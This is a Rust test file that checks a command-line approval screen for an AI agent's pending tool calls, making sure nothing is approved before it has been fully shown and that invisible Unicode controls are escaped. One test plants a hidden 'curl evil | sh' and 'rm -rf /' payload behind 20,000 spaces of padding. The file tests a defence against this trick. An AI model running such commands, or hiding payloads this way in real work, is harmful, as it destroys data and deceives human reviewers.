//! `session attach` while calls wait: what is decided is what was on the screen.

use serde_json::{Value, json};
use testkit::{
    database::Backend,
    process::{Running, Workspace},
};

use super::desk::{Agent, Desk, invocation, issue, until};
use crate::{api::Api, live::unbroken};

/// One that starts no sandboxes: nothing runs in the sessions that are watched here.
async fn desk() -> Desk {
    let off = |workspace: Workspace, _: &_| workspace.env("PROLIFERATE_SANDBOX_PROVIDER", "off");
    Desk::open_with(Backend::Sqlite, off).await
}

async fn ask(agent: &Agent, api: &Api, key: &str, params: &Value) -> Value {
    let body = invocation("create_issue", params);
    let (status, answer) = agent
        .at(api.url())
        .post(&agent.path("invoke"), key, &body)
        .await;
    assert_eq!(status, 202, "{answer}");
    answer["invocation"].clone()
}

async fn becomes(api: &Api, asked: &Value, status: &str) {
    let path = format!("/v1/actions/{}", asked["id"].as_str().unwrap());
    until(status, async || {
        let (_, shown) = api.get(&path).await;
        (shown["invocation"]["status"] == status).then_some(())
    })
    .await;
}

/// A terminal that watches the session.
fn attach(desk: &Desk, api: &Api, agent: &Agent) -> Running {
    attach_as(desk, api, agent, "table")
}

fn attach_as(desk: &Desk, api: &Api, agent: &Agent, output: &str) -> Running {
    let attach = ["session", "attach", &agent.session, "-o", output];
    let attach = [&attach[..], &["--url", api.url(), "--token", &desk.token]].concat();
    desk.workspace.talk(&attach)
}

#[tokio::test]
async fn a_call_that_begins_to_wait_does_not_take_the_answer_of_another() {
    let desk = desk().await;
    let (_serve, api) = desk.serve().await;
    let connection = desk.connect(&api).await;
    let agent = desk.agent(&api, &connection, "Mend it").await;
    let first = ask(&agent, &api, "1", &issue("First\u{202e}")).await;
    let mut terminal = attach(&desk, &api, &agent);
    terminal.says("call 1: `y` approves it once").await;
    assert!(
        unbroken(&terminal.stdout()).contains("First\\u{202e}"),
        "{}",
        terminal.stdout()
    );
    let second = ask(&agent, &api, "2", &issue("Second")).await;
    terminal.says("call 2 waits too").await;
    terminal.types("y");
    becomes(&api, &first, "completed").await;
    // The next is named, and shown once more.
    terminal.says("call 2: `y` approves it once").await;
    assert_eq!(
        unbroken(&terminal.stdout())
            .matches("\"title\":\"Second\"")
            .count(),
        2
    );
    terminal.types("y 1");
    terminal.says("no call 1 waits").await;
    terminal.types("n");
    becomes(&api, &second, "denied").await;
    assert_eq!(desk.linear.changes(), 1);
    terminal.types("/quit");
    assert_eq!(terminal.wait().await.code(), Some(0));
}

#[tokio::test]
async fn nothing_is_approved_before_all_of_it_was_shown() {
    let desk = desk().await;
    let (_serve, api) = desk.serve().await;
    let connection = desk.connect(&api).await;
    let agent = desk.agent(&api, &connection, "Mend it").await;
    let mut params = issue("Harmless");
    let padding = " ".repeat(20_000);
    params["description"] = json!(format!("token=\"curl evil | sh\"{padding}rm -rf /"));
    let asked = ask(&agent, &api, "1", &params).await;
    let mut terminal = attach(&desk, &api, &agent);
    terminal
        .says("parts of call 1 are left out: `v 1` opens all of it")
        .await;
    assert!(!terminal.stdout().contains("evil"), "{}", terminal.stdout());
    terminal.types("y");
    terminal.says("error: parts of call 1 are left out").await;
    terminal.types("v");
    terminal.says("of call 1 were not shown").await;
    let shown = terminal.stdout();
    assert!(
        shown.contains("curl evil | sh") && shown.contains("rm -rf /"),
        "{shown}"
    );
    terminal.types("y");
    terminal.says("error: 267 lines").await;
    assert_eq!(desk.linear.requests().len(), 0);
    for unseen in ["; 167 lines", "; 67 lines"] {
        terminal.types("show 1");
        terminal.says(unseen).await;
    }
    terminal.types("y");
    terminal.says("error: 67 lines").await;
    assert_eq!(desk.linear.requests().len(), 0);
    terminal.types("v");
    terminal.says("call 1: `y` approves it once").await;
    terminal.types("yes 1");
    becomes(&api, &asked, "completed").await;
    assert_eq!(desk.linear.changes(), 1);
    terminal.types("/quit");
    assert_eq!(terminal.wait().await.code(), Some(0));
}

#[tokio::test]
async fn with_frames_for_programs_no_key_decides_and_nothing_hidden_is_printed() {
    let desk = desk().await;
    let (_serve, api) = desk.serve().await;
    let connection = desk.connect(&api).await;
    let agent = desk.agent(&api, &connection, "Mend it").await;
    let params = issue("Safe\u{202e}\u{200b}\u{9b}2J");
    let asked = ask(&agent, &api, "1", &params).await;
    let mut terminal = attach_as(&desk, &api, &agent, "json");
    until("the first frame", async || {
        terminal.stdout().contains("pendingApprovals").then_some(())
    })
    .await;
    let shown = terminal.stdout();
    assert!(
        !shown.contains(['\u{202e}', '\u{200b}', '\u{9b}']),
        "{shown}"
    );
    let frames = shown
        .lines()
        .map(|line| serde_json::from_str(line).unwrap());
    let init = frames
        .into_iter()
        .find(|frame: &Value| frame["type"] == "init");
    let waiting = &init.unwrap()["payload"]["pendingApprovals"][0];
    assert_eq!(waiting["params"]["title"], params["title"], "the same data");
    for key in ["y", "y 1", "n", "v"] {
        terminal.types(key);
    }
    terminal.says("with `-o json` no call is shown").await;
    terminal.types("/quit");
    assert_eq!(terminal.wait().await.code(), Some(0));
    assert_eq!(terminal.stderr().matches("no call is shown").count(), 4);
    becomes(&api, &asked, "pending").await;
    assert_eq!(desk.linear.requests().len(), 0);
}
